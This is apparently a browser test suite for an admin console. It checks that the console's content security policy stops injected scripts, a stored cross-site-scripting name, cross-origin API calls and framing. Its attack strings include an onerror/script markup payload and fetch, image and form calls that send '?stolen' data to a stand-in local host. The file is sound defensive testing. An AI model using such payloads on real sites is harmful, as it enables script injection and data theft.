/** Another origin, an injected script, a stored name with markup: nothing happens. A foreign host name: local-console.test.ts. */

import { createServer } from 'node:http';
import { beforeAll, describe, expect, inject, onTestFinished } from 'vitest';
import { tokenOf } from '../support/browser/accounts.ts';
import { adminCallsOf } from '../support/browser/admin-calls.ts';
import { hasBrowser, browserTest as test } from '../support/browser/browser-test.ts';
import { openConsole } from '../support/browser/console-page.ts';

const MARKUP = '<img src=x onerror="window.wasRun=1"><script>window.wasRun=1</script>';

/** Nothing listens at port 9: only the policy's own word proves that the policy stopped it. Trusted Types may be first. */
const stoppedBy = (directive: string, attempt: string): string => `new Promise((done) => {
  const policies = [];
  document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => policies.push(violatedDirective));
  try { ${attempt} } catch {}
  setTimeout(() => done(policies.some((name) => name.startsWith('${directive}') || name === 'require-trusted-types-for')), 200);
})`;

/** What a page of an attacker's own could try in ours, had it a hole. Each answers whether it was stopped. */
const ATTEMPTS: Readonly<Record<string, string>> = {
  'an inline script': `(async () => {
    const script = document.createElement('script');
    try { script.textContent = 'window.wasRun = 1'; document.body.append(script); } catch {}
    await new Promise((done) => setTimeout(done, 50));
    return window.wasRun !== 1;
  })()`,
  'a script from elsewhere': stoppedBy(
    'script-src',
    "const script = document.createElement('script'); script.src = 'http://127.0.0.1:9/x.js'; document.body.append(script);",
  ),
  'markup as text that becomes code': `(() => {
    try { document.body.innerHTML = '<img src=x onerror="window.wasRun=1">'; return false; } catch { return true; }
  })()`,
  'a style of its own': `(() => {
    const style = document.createElement('style');
    style.textContent = 'body { opacity: 0.5 }';
    document.head.append(style);
    return getComputedStyle(document.body).opacity === '1';
  })()`,
  'sending what it read to elsewhere': stoppedBy(
    'connect-src',
    "fetch('http://127.0.0.1:9/?stolen').catch(() => undefined);",
  ),
  'a picture that carries it away': stoppedBy('img-src', "new Image().src = 'http://127.0.0.1:9/?stolen';"),
  'a form that leads away': stoppedBy(
    'form-action',
    "const form = document.createElement('form'); form.action = 'http://127.0.0.1:9/'; document.body.append(form); form.submit();",
  ),
};

/** A page of another origin. */
const servePage = async (html: string): Promise<string> => {
  const server = createServer((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(html));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => void server.close());
  const address = server.address();
  return `http://127.0.0.1:${typeof address === 'object' && address ? address.port : 0}`;
};

describe.runIf(hasBrowser)('nothing happens', () => {
  let integrationId: string;
  beforeAll(async () => {
    integrationId = await adminCallsOf('hostile').createIntegration(MARKUP);
  });

  test.for(Object.entries(ATTEMPTS))('with %s', async ([, attempt], { newPage }) => {
    const { page } = await openConsole(await newPage(), 'hostile');
    expect(await page.evaluate(attempt)).toBe(true);
    expect(await page.evaluate('window.wasRun')).toBeUndefined();
  });

  test.for(['/', '/i/:id', '/i/:id/incidents', '/i/:id/contacts'])(
    'with a stored name that is markup, at %s',
    async (path, { newPage }) => {
      const { page, complaints } = await openConsole(
        await newPage(),
        'hostile',
        path.replace(':id', encodeURIComponent(integrationId)),
      );
      await page.getByText(MARKUP).first().waitFor();
      expect(await page.evaluate('window.wasRun')).toBeUndefined();
      expect(await page.locator('main img, main script').count()).toBe(0);
      expect(complaints).toEqual([]);
    },
  );

  test('when another origin asks the API, even with a token', async ({ newPage }) => {
    const page = await newPage();
    await page.goto(await servePage('<h1>elsewhere</h1>'));
    const ask = `fetch('${inject('systemUrl')}/v1/integrations', { headers: { authorization: 'Bearer ${tokenOf('hostile')}' } })
      .then((answer) => answer.text(), () => 'stopped')`;
    expect(await page.evaluate(ask)).toBe('stopped');
    const blind = `fetch('${inject('systemUrl')}/session', { method: 'POST', mode: 'no-cors', credentials: 'include', body: '{}' })
      .then((answer) => answer.type + ' ' + answer.status, () => 'stopped')`;
    expect(await page.evaluate(blind)).toMatch(/stopped|opaque 0/);
  });

  test('when another origin shows the console in a frame', async ({ newPage }) => {
    const page = await newPage();
    await page.goto(await servePage(`<h1>elsewhere</h1><iframe src="${inject('systemUrl')}/"></iframe>`));
    await page.waitForLoadState('load');
    const inner = page.frames().find((frame) => frame !== page.mainFrame());
    expect(inner?.url()).not.toContain(inject('systemUrl'));
  });
});
